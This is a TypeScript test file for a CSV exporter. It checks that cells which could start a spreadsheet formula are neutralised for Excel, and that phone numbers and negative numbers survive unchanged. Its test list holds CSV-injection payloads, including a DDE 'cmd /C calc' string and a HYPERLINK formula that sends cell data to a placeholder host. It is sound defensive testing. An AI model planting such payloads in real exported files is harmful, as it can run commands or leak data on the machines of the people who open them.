import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../shared/export/csv.ts';
import type { Cell, Table } from '../../../shared/export/table.ts';
import { plainField } from '../../../shared/import/parse-text.ts';

const text = (value: string): Cell => ({ kind: 'text', text: value });
const phone = (value: string): Cell => ({ kind: 'phone', text: value });
const table = (...cells: readonly Cell[]): Table => ({
  name: 't',
  headers: cells.map((_, i) => `h${i}`),
  rows: [cells],
});
/** The cells of the only row as a spreadsheet program reads them. */
const read = (csv: string, delimiter: string): readonly string[] =>
  Papa.parse<string[]>(csv.replace(/^\ufeff/u, ''), { delimiter, newline: '\r\n' }).data[1] ?? [];
const excel = (...cells: readonly Cell[]): readonly string[] => read(toCsv(table(...cells), 'excel', 'ru'), ';');

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://e.example/?"&A1;"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b@x',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠x',
];

describe('CSV for Excel', () => {
  it('disarms everything that begins a formula, and our import gives it back', () => {
    for (const value of DANGEROUS) {
      const [cell = ''] = excel(text(value));
      expect(cell).toBe(`'${value}`);
      expect(plainField(cell)).toBe(value);
    }
  });
  it('disarms headers, and what calls itself a telephone', () => {
    const csv = toCsv({ name: 't', headers: ['=1+1'], rows: [] }, 'excel', 'en');
    expect(csv).toBe("\ufeff'=1+1\r\n");
    expect(excel(phone("+7|' /C calc'!A0"))).toEqual(["'+7|' /C calc'!A0"]);
    expect(excel(phone('=1+1'))).toEqual(["'=1+1"]);
  });
  it('breaks neither telephones nor negative numbers', () => {
    expect(excel(phone('+7 916 123-45-67'), phone('+7 495 1, +7 916 2 доб. 12'), text('-5'), text('-3,5'))).toEqual([
      ' +7 916 123-45-67',
      ' +7 495 1, +7 916 2 доб. 12',
      '-5',
      '-3,5',
    ]);
  });
  it('begins with the mark that Excel needs, ends lines as it does, and parts cells as its language does', () => {
    expect(toCsv(table(text('а'), text('б;"в"')), 'excel', 'ru')).toBe('\ufeffh0;h1\r\nа;"б;""в"""\r\n');
    expect(toCsv(table(text('a'), text('b,c')), 'excel', 'en')).toBe('\ufeffh0,h1\r\na,"b,c"\r\n');
  });
  it('has no armed cell for any text, and gives every text back', () => {
    const signs = fc.string({ unit: fc.constantFrom(...'=+-@＝＠\'" \t\u00a0;,a1'), maxLength: 6 });
    fc.assert(
      fc.property(fc.oneof(signs, fc.string({ unit: 'grapheme', maxLength: 12 })), (value) => {
        const [cell = ''] = excel(text(value));
        expect(cell).not.toMatch(/^[\s\u200b\ufeff]*(?:[=@＝＋－＠]|[+-](?!\d+(?:[.,]\d+)?$))/u);
        if (cell !== value) expect(plainField(cell)).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('CSV for programs', () => {
  it('holds every text exactly', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 1, maxLength: 5 }), (values) => {
        const csv = toCsv(table(...values.map(text)), 'programs', 'ru');
        expect(csv.startsWith('\ufeffh0')).toBe(false);
        expect(read(csv, ',')).toEqual(values);
      }),
      { numRuns: 1000 },
    );
    for (const value of DANGEROUS) expect(read(toCsv(table(text(value)), 'programs', 'ru'), ',')).toEqual([value]);
  });
});
